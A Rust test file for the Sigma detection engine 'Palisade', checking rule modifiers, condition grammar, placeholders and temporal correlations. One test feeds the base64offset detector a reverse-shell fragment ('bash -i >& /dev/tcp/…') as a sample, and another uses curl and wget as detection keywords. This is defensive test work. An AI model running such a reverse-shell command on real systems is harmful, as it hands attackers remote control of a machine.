//! Sigma features as Palisade's engine reads them: one compact table of (detection, event,
//! expected), each checked through both matching paths (parsed `Value` and raw text), plus
//! the rewrites Palisade adds (`base64offset`, placeholders, temporal references by name).

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "tests"
)]

use palisade_detect::RuleSet;
use serde_json::{Value, json};

fn set_of(detection: &str) -> RuleSet {
    let yaml = format!(
        "title: T\nid: 7a1d0c52-0000-4000-8000-000000000001\nauthor: tester\nlogsource: {{product: aws}}\ndetection:\n{detection}\n"
    );
    let mut set = RuleSet::new();
    set.add_text("t.yml", &yaml);
    assert!(set.problems.is_empty(), "{detection}: {:?}", set.problems);
    assert_eq!(set.len(), 1);
    set
}

fn fires(set: &RuleSet, event: &Value) -> bool {
    let parsed = set.matches(event);
    let raw = set.matches_json(&event.to_string()).unwrap();
    assert_eq!(parsed, raw, "paths differ on {event}");
    !parsed.is_empty()
}

fn b64(text: &str) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in text.as_bytes().chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for i in 0..4 {
            out.push(if i <= c.len() {
                A[((n >> (18 - 6 * i)) & 63) as usize] as char
            } else {
                '='
            });
        }
    }
    out
}

#[test]
fn modifiers_wildcards_values_keywords_paths_and_conditions() {
    let sel = |body: &str| format!("  sel:\n{body}\n  condition: sel");
    let cases: Vec<(String, Value, bool)> = vec![
        // exact, case-insensitive by default; `cased`
        (sel("    f: Abc"), json!({"f": "aBC"}), true),
        (sel("    f|cased: Abc"), json!({"f": "aBC"}), false),
        (sel("    f: Abc"), json!({"f": "Abcd"}), false),
        // contains / startswith / endswith / all
        (sel("    f|contains: mid"), json!({"f": "a-MID-b"}), true),
        (sel("    f|contains: mid"), json!({"f": "a-b"}), false),
        (sel("    f|startswith: pre"), json!({"f": "prefix"}), true),
        (sel("    f|startswith: pre"), json!({"f": "apre"}), false),
        (sel("    f|endswith: fix"), json!({"f": "suffix"}), true),
        (sel("    f|endswith: fix"), json!({"f": "fixed"}), false),
        (
            sel("    f|contains|all: [a1, b2]"),
            json!({"f": "x a1 b2"}),
            true,
        ),
        (
            sel("    f|contains|all: [a1, b2]"),
            json!({"f": "x a1"}),
            false,
        ),
        (sel("    f|contains: [a1, b2]"), json!({"f": "x b2"}), true),
        // re, cidr
        (sel("    f|re: '^ab+c$'"), json!({"f": "abbbc"}), true),
        (sel("    f|re: '^ab+c$'"), json!({"f": "ABC"}), false),
        (sel("    f|re|i: '^ab+c$'"), json!({"f": "ABC"}), true),
        (
            sel("    ip|cidr: 10.0.0.0/8"),
            json!({"ip": "10.2.3.4"}),
            true,
        ),
        (
            sel("    ip|cidr: 10.0.0.0/8"),
            json!({"ip": "11.2.3.4"}),
            false,
        ),
        (
            sel("    ip|cidr: '2001:db8::/32'"),
            json!({"ip": "2001:db8::1"}),
            true,
        ),
        // base64, base64offset, windash
        (
            sel("    f|base64: secret"),
            json!({"f": b64("secret")}),
            true,
        ),
        (sel("    f|base64: secret"), json!({"f": "secret"}), false),
        (
            sel("    f|windash|contains: ' -enc '"),
            json!({"f": "ps /enc x"}),
            true,
        ),
        (
            sel("    f|windash|contains: ' -enc '"),
            json!({"f": "ps enc x"}),
            false,
        ),
        // exists, gt/lt, fieldref
        (sel("    f|exists: true"), json!({"f": ""}), true),
        (sel("    f|exists: true"), json!({"g": 1}), false),
        (sel("    f|exists: false"), json!({"g": 1}), true),
        (sel("    n|gt: 10"), json!({"n": 11}), true),
        (sel("    n|gt: 10"), json!({"n": 10}), false),
        (sel("    n|lte: 10"), json!({"n": "10"}), true),
        (sel("    n|lt: 1.5"), json!({"n": 1.25}), true),
        (sel("    a|fieldref: b"), json!({"a": "x", "b": "x"}), true),
        (sel("    a|fieldref: b"), json!({"a": "x", "b": "y"}), false),
        // wildcards and escapes
        (sel("    f: 'a*c'"), json!({"f": "abbbc"}), true),
        (sel("    f: 'a?c'"), json!({"f": "abc"}), true),
        (sel("    f: 'a?c'"), json!({"f": "abbc"}), false),
        (sel("    f: 'a\\*c'"), json!({"f": "a*c"}), true),
        (sel("    f: 'a\\*c'"), json!({"f": "abc"}), false),
        // null and empty values
        (sel("    f: null"), json!({"f": null}), true),
        (sel("    f: null"), json!({"g": 1}), true),
        (sel("    f: null"), json!({"f": "x"}), false),
        (sel("    f: ''"), json!({"f": ""}), true),
        (sel("    f: ''"), json!({"f": "x"}), false),
        // numbers and booleans against strings
        (sel("    f: 'true'"), json!({"f": true}), true),
        (sel("    n: 42"), json!({"n": "42"}), true),
        // dotted paths, through arrays, by index, and whole sub-objects as JSON text
        (
            sel("    a.b.c: deep"),
            json!({"a": {"b": {"c": "deep"}}}),
            true,
        ),
        (
            sel("    a.b.c: deep"),
            json!({"a": {"b": [{"c": "no"}, {"c": "deep"}]}}),
            true,
        ),
        (sel("    a.b: deep"), json!({"a.b": "deep"}), true),
        (
            sel("    a|contains: '\"k\":\"v\"'"),
            json!({"a": {"k": "v"}}),
            true,
        ),
        (
            sel("    a.x|contains: 'v'"),
            json!({"a": {"x": {"k": "v"}}}),
            true,
        ),
        (sel("    s: 'q\"t'"), json!({"s": "q\"t"}), true),
    ];
    let mut cases = cases;
    let conditions: Vec<(&str, Value, bool)> = vec![
        // keywords
        (
            "  kw:\n    - needle\n  condition: kw",
            json!({"a": {"b": ["x", "the NEEDLE"]}}),
            true,
        ),
        (
            "  kw:\n    - needle\n  condition: kw",
            json!({"a": "hay"}),
            false,
        ),
        // condition grammar
        (
            "  selection_a:\n    a: 1\n  selection_b:\n    b: 1\n  condition: 1 of selection_*",
            json!({"b": 1}),
            true,
        ),
        (
            "  selection_a:\n    a: 1\n  selection_b:\n    b: 1\n  condition: all of selection_*",
            json!({"b": 1}),
            false,
        ),
        (
            "  sa:\n    a: 1\n  sb:\n    b: 1\n  condition: all of them",
            json!({"a": 1, "b": 1}),
            true,
        ),
        (
            "  sa:\n    a: 1\n  sb:\n    b: 1\n  condition: sa and not sb",
            json!({"a": 1, "b": 1}),
            false,
        ),
        (
            "  sa:\n    a: 1\n  sb:\n    b: 1\n  sc:\n    c: 1\n  condition: sa and (sb or sc)",
            json!({"a": 1, "c": 1}),
            true,
        ),
        (
            "  sa:\n    a: 1\n  sb:\n    b: 1\n  sc:\n    c: 1\n  condition: (sa and sb) or sc",
            json!({"a": 1}),
            false,
        ),
        // a list of maps is OR, a map is AND
        (
            "  sel:\n    - a: 1\n    - b: 1\n  condition: sel",
            json!({"b": 1}),
            true,
        ),
        (
            "  sel:\n    a: 1\n    b: 1\n  condition: sel",
            json!({"b": 1}),
            false,
        ),
    ];
    cases.extend(
        conditions
            .into_iter()
            .map(|(d, e, x)| (d.to_string(), e, x)),
    );
    for (detection, event, expected) in &cases {
        let set = set_of(detection);
        assert_eq!(fires(&set, event), *expected, "{detection} on {event}");
    }
}

#[test]
fn base64offset_finds_the_value_anywhere_in_the_encoded_text() {
    let set = set_of("  sel:\n    f|base64offset|contains: 'bash -i'\n  condition: sel");
    // At each of the three offsets, followed by more text: rsigma 0.23 alone misses all
    // of these but the one where the value ends the text.
    for prefix in ["", "x", "xy", "xyz", "wxyz"] {
        for suffix in ["", " >& /dev/tcp/1.2.3.4/9 0>&1", "!", "!!"] {
            let encoded = b64(&format!("{prefix}bash -i{suffix}"));
            assert!(
                fires(&set, &json!({ "f": encoded })),
                "{prefix}|{suffix}: {encoded}"
            );
        }
    }
    assert!(!fires(&set, &json!({"f": b64("bash -c id")})));
    assert!(!fires(&set, &json!({"f": "bash -i"})));

    let all = set_of("  sel:\n    f|base64offset|contains|all: [curl, wget]\n  condition: sel");
    assert!(fires(&all, &json!({"f": b64("a curl b wget c")})));
    assert!(!fires(&all, &json!({"f": b64("a curl b")})));
}

#[test]
fn placeholders_expand_with_supplied_values_and_otherwise_say_how() {
    let yaml = "title: P\nid: 7a1d0c52-0000-4000-8000-000000000002\nlogsource: {product: aws}\ndetection:\n  sel:\n    eventName: ConsoleLogin\n  filter:\n    country|expand: '%Countries%'\n  condition: sel and not filter\n";
    let mut without = RuleSet::new();
    without.add_text("p.yml", yaml);
    assert_eq!(without.len(), 0);
    assert_eq!(without.problems.len(), 1);
    assert!(
        without.problems[0]
            .message
            .contains("placeholder %Countries% has no values")
    );

    let mut set = RuleSet::new();
    set.set_placeholder("Countries", vec!["DE".into(), "F*".into()]);
    set.add_text("p.yml", yaml);
    assert!(set.problems.is_empty(), "{:?}", set.problems);
    let login = |c: &str| json!({"eventName": "ConsoleLogin", "country": c});
    assert!(fires(&set, &login("RU")));
    assert!(!fires(&set, &login("DE")));
    assert!(!fires(&set, &login("FR")));
}

#[test]
fn temporal_correlations_by_name_without_condition_need_all_their_rules() {
    let yaml = "title: A\nname: rule_a\nlogsource: {product: aws}\ndetection:\n  s:\n    eventName: A\n  condition: s\n---\ntitle: B\nname: rule_b\nlogsource: {product: aws}\ndetection:\n  s:\n    eventName: B\n  condition: s\n---\ntitle: A then B\nauthor: tester\ncorrelation:\n  type: temporal\n  rules: [rule_a, rule_b]\n  group-by: [user]\n  timespan: 5m\n";
    let mut set = RuleSet::new();
    set.add_text("c.yml", yaml);
    assert!(set.problems.is_empty(), "{:?}", set.problems);
    assert_eq!(set.correlation_count(), 1);
    let run = |events: &[(&str, &str, &str)]| {
        let mut c = set.correlator();
        let mut hits = Vec::new();
        for (name, user, time) in events {
            let e = json!({"eventName": name, "user": user, "eventTime": time});
            hits.extend(c.feed(&e, &set.matches(&e)));
        }
        hits
    };
    let hits = run(&[
        ("A", "u1", "2024-05-01T12:00:00Z"),
        ("A", "u1", "2024-05-01T12:01:00Z"),
    ]);
    assert!(hits.is_empty(), "one rule alone must not fire: {hits:?}");
    let hits = run(&[
        ("A", "u1", "2024-05-01T12:00:00Z"),
        ("B", "u2", "2024-05-01T12:01:00Z"),
    ]);
    assert!(hits.is_empty(), "another group must not complete it");
    let hits = run(&[
        ("A", "u1", "2024-05-01T12:00:00Z"),
        ("B", "u1", "2024-05-01T12:04:00Z"),
    ]);
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].rule.title, "A then B");
    assert_eq!(hits[0].group, vec![("user".to_string(), "u1".to_string())]);

    // Expressions in the condition name the rules too.
    let with_expr = yaml.replace(
        "  timespan: 5m\n",
        "  timespan: 5m\n  condition: rule_a and rule_b\n",
    );
    let mut set = RuleSet::new();
    set.add_text("c.yml", &with_expr);
    let mut c = set.correlator();
    let mut hits = Vec::new();
    for (name, time) in [("A", "2024-05-01T12:00:00Z"), ("B", "2024-05-01T12:00:30Z")] {
        let e = json!({"eventName": name, "user": "u", "eventTime": time});
        hits.extend(c.feed(&e, &set.matches(&e)));
    }
    assert_eq!(hits.len(), 1, "{hits:?}");
}

#[test]
fn a_correlation_on_an_unknown_rule_is_named_and_resolved_by_a_later_folder() {
    let corr = "title: C\nid: 7a1d0c52-0000-4000-8000-000000000003\ncorrelation:\n  type: event_count\n  rules: [later_rule]\n  timespan: 1m\n  condition: {gte: 2}\n";
    let mut set = RuleSet::new();
    set.add_text("c.yml", corr);
    assert_eq!(set.problems.len(), 1);
    assert!(
        set.problems[0].message.contains("`later_rule`"),
        "{:?}",
        set.problems
    );
    assert_eq!(set.correlation_count(), 0);
    set.add_text(
        "r.yml",
        "title: R\nname: later_rule\nlogsource: {product: aws}\ndetection:\n  s:\n    eventName: R\n  condition: s\n",
    );
    assert!(set.problems.is_empty(), "{:?}", set.problems);
    assert_eq!(set.correlation_count(), 1);
}

#[test]
fn malformed_records_are_errors_and_non_objects_still_match() {
    let set = set_of("  kw:\n    - needle\n  condition: kw");
    assert!(set.matches_json("{\"a\": ").is_err());
    assert!(set.matches_json("[\"needle\"]").unwrap().len() == 1);
    assert!(set.matches_json("  {\"a\": \"needle\"}  ").unwrap().len() == 1);
    // Escaped keys and duplicate keys read as a parsed record reads them (last wins).
    let f = set_of("  sel:\n    k: v2\n  condition: sel");
    assert_eq!(
        f.matches_json(r#"{"k":"v1","\u006b":"v2"}"#).unwrap().len(),
        1
    );
}
